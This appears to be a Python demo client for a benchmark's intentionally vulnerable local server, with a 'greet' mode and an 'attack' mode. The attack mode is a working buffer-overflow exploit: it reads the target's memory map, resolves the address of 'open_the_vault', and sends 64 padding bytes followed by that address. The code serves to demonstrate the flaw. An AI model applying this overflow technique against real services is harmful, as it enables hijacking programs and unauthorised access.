# SPDX-License-Identifier: Apache-2.0
"""The client of bench/demo's vulnerable server.

    demo_client.py PORT greet NAME
    demo_client.py PORT attack PID

`attack` plays an attacker who has learnt where the code of process PID lies
(here: from /proc/PID/maps; in real life through an information leak), and
sends a name that is 8 bytes too long: those bytes are the address of a
function of the attacker's choice.  Prints what the server answers.
"""
import os
import socket
import struct
import subprocess
import sys


def address_of(pid, function):
    exe = os.readlink(f"/proc/{pid}/exe")
    with open(f"/proc/{pid}/maps") as f:
        base = next(int(line.split("-")[0], 16) for line in f
                    if line.rstrip().endswith(" " + exe))
    symbols = subprocess.run(["nm", exe], check=True, text=True,
                             capture_output=True).stdout
    for line in symbols.splitlines():
        words = line.split()
        if words[-1] == function:
            return base + int(words[0], 16)
    sys.exit(f"no {function} in {exe}")


def main():
    port, what, arg = sys.argv[1:]
    if what == "attack":
        address = address_of(int(arg), "open_the_vault")
        print(f"  sends 64 bytes and the address {address:#x}",
              file=sys.stderr)
        message = b"A" * 64 + struct.pack("<Q", address)
    else:
        message = arg.encode()
    with socket.create_connection(("127.0.0.1", int(port)), timeout=20) as s:
        s.sendall(message)
        answer = b""
        try:
            while chunk := s.recv(4096):
                answer += chunk
        except ConnectionResetError:
            pass
    print(answer.decode(errors="replace"), end="")


main()
